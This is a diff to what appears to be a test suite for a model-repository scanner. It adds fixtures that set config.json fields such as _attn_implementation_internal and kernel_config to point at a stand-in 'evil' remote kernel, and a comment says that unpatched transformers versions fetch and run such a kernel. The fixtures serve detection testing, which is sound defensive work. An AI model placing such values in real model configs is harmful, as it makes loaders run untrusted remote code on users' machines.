@@ -85,6 +85,19 @@ def kernel(folder: Path) -> None:
     change_json(folder, "config.json", attn_implementation="someone/evil-kernel")
 
 
+def internal_kernel(folder: Path) -> None:
+    # CVE-2026-4372: transformers before 5.3 fetches and runs it, whatever trust_remote_code is.
+    change_json(folder, "config.json", _attn_implementation_internal="someone/evil-kernel")
+
+
+def kernel_of_a_part(folder: Path) -> None:
+    change_json(folder, "config.json", attn_implementation={"": "eager", "text_config": "someone/evil-kernel"})
+
+
+def kernel_settings(folder: Path) -> None:
+    change_json(folder, "config.json", kernel_config={"RMSNorm": "someone/evil:RMSNorm"})
+
+
 def backbone(folder: Path) -> None:
     change_json(folder, "config.json", backbone="someone/evil", use_pretrained_backbone=True)
 
@@ -131,6 +144,9 @@ ENCODERS: dict[Callable[[Path], None], tuple[str, str]] = {
     python_file: ("H580", "evil.py"),
     python_file_below: ("H580", "evil.py"),
     kernel: ("H583", "config.json"),
+    internal_kernel: ("H583", "config.json"),
+    kernel_of_a_part: ("H583", "config.json"),
+    kernel_settings: ("H583", "config.json"),
     backbone: ("H583", "config.json"),
     quantizer: ("H583", "config.json"),
     pickled_weights: ("H582", "pytorch_model.bin"),
